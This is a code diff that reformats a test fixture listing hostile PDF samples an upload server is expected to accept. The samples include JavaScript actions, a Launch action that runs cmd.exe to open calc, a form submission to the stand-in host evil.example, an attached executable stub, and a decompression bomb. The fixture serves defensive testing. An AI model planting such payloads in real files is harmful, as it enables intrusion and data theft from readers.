@@ -58,15 +58,76 @@ const id3 = Buffer.from("ID3\x04\0\0\0\0\0\0", "latin1");
 
 /** Nothing on the server reads what is in a PDF, so it is taken however hostile its content is: browsers get it to save, in a sandbox. */
 const pdfs = [
-  { description: "an encrypted PDF", create: () => createPdfOf({ objects: ["<</Type/Catalog/Pages 2 0 R>>", pages, "<</Filter/Standard/V 5/R 6/O()/U()/P -4>>"], trailer: "/Encrypt 3 0 R" }) },
-  { description: "a PDF that runs JavaScript", create: () => createActionPdf(`/S/JavaScript/JS(app.alert\\(1\\))`) },
-  { description: "a PDF that launches a program", create: () => createActionPdf("/S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>") },
-  { description: "a PDF that sends a form", create: () => createActionPdf("/S/SubmitForm/F(https://evil.example)") },
-  { description: "a PDF with a program attached", create: () => createPdfOf({ objects: ["<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a.exe) 3 0 R]>>>>>>", pages, "<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>", createStream(Buffer.from("MZ\x90\0", "latin1"), "/Type/EmbeddedFile")] }) },
-  { description: "a PDF that says it has two thousand million pages", create: () => createPdfOf({ objects: ["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R]/Count 2147483647>>"] }) },
-  { description: "a PDF of 100 kB that unpacks to 100 MB", create: () => createPdfOf({ objects: ["<</Type/Catalog/Pages 2 0 R>>", pages, createStream(createBomb(), "/Filter/FlateDecode")] }) },
-  { description: "a PDF that holds an archive", create: () => createPdfOf({ objects: ["<</Type/Catalog/Pages 2 0 R>>", pages, createStream(archive)] }) },
-  { description: "a PDF with a page further in", create: () => createPdfOf({ objects: ["<</Type/Catalog/Pages 2 0 R>>", pages, createStream(Buffer.from(" ".repeat(4_096) + page))] }) },
+  {
+    description: "an encrypted PDF",
+    create: () =>
+      createPdfOf({
+        objects: [
+          "<</Type/Catalog/Pages 2 0 R>>",
+          pages,
+          "<</Filter/Standard/V 5/R 6/O()/U()/P -4>>",
+        ],
+        trailer: "/Encrypt 3 0 R",
+      }),
+  },
+  {
+    description: "a PDF that runs JavaScript",
+    create: () => createActionPdf(`/S/JavaScript/JS(app.alert\\(1\\))`),
+  },
+  {
+    description: "a PDF that launches a program",
+    create: () => createActionPdf("/S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>"),
+  },
+  {
+    description: "a PDF that sends a form",
+    create: () => createActionPdf("/S/SubmitForm/F(https://evil.example)"),
+  },
+  {
+    description: "a PDF with a program attached",
+    create: () =>
+      createPdfOf({
+        objects: [
+          "<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a.exe) 3 0 R]>>>>>>",
+          pages,
+          "<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>",
+          createStream(Buffer.from("MZ\x90\0", "latin1"), "/Type/EmbeddedFile"),
+        ],
+      }),
+  },
+  {
+    description: "a PDF that says it has two thousand million pages",
+    create: () =>
+      createPdfOf({
+        objects: ["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R]/Count 2147483647>>"],
+      }),
+  },
+  {
+    description: "a PDF of 100 kB that unpacks to 100 MB",
+    create: () =>
+      createPdfOf({
+        objects: [
+          "<</Type/Catalog/Pages 2 0 R>>",
+          pages,
+          createStream(createBomb(), "/Filter/FlateDecode"),
+        ],
+      }),
+  },
+  {
+    description: "a PDF that holds an archive",
+    create: () =>
+      createPdfOf({ objects: ["<</Type/Catalog/Pages 2 0 R>>", pages, createStream(archive)] }),
+  },
+  {
+    description: "a PDF with a page further in",
+    create: () =>
+      createPdfOf({
+        objects: [
+          "<</Type/Catalog/Pages 2 0 R>>",
+          pages,
+          createStream(Buffer.from(" ".repeat(4_096) + page)),
+        ],
+      }),
+  },
   { description: "two PDFs in one", create: () => Buffer.concat([plainPdf, plainPdf]) },
 ].map((file): HostileFile => ({ ...file, status: 201, kind: "PDF" }));
 
